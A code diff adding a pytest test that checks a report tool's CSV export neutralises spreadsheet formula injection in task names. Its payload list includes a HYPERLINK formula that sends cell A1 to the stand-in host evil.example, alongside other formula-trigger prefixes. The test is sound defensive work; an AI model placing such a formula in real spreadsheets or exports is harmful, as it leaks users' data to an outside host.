@@ -174,3 +174,31 @@ def test_the_html_report_is_self_contained_and_renders_in_chromium(store: Path, 
     assert f"{data['total']['requests']:,}" in dom
     assert "Hits vs misses" in dom and "Cost by model" in dom
     screenshot(page.as_uri(), "report")
+
+
+FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+2", "-2+3", "@SUM(A1)", "\tx", "\r=1"]
+
+
+def test_csv_cells_that_would_run_as_spreadsheet_formulas_are_neutralised(tmp_path: Path) -> None:
+    run = tmp_path / "runs" / "csv"
+    run.mkdir(parents=True)
+    records = [
+        {
+            "served": "miss",
+            "status": 200,
+            "model": "m",
+            "task": task,
+            "ts": 1.0,
+            "ts_end": 2.0,
+            "latency_ms": 1.0,
+        }
+        for task in [*FORMULAS, None, "plain-task"]
+    ]
+    (run / "1-host-1.jsonl").write_bytes(b"".join(orjson.dumps(r) + b"\n" for r in records))
+    rows = list(csv.DictReader(io.StringIO(report(tmp_path, "csv", "--by", "task", "--format", "csv"))))
+    groups = [r["group"] for r in rows]
+    assert sorted(groups) == sorted(["'" + f for f in FORMULAS] + ["-", "plain-task", "total"])
+    for row in rows:
+        for value in row.values():
+            assert not value.startswith(("=", "+", "@", "\t", "\r")), value
+            assert not value.startswith("-") or value == "-" or re.fullmatch(r"-[0-9.]+", value), value
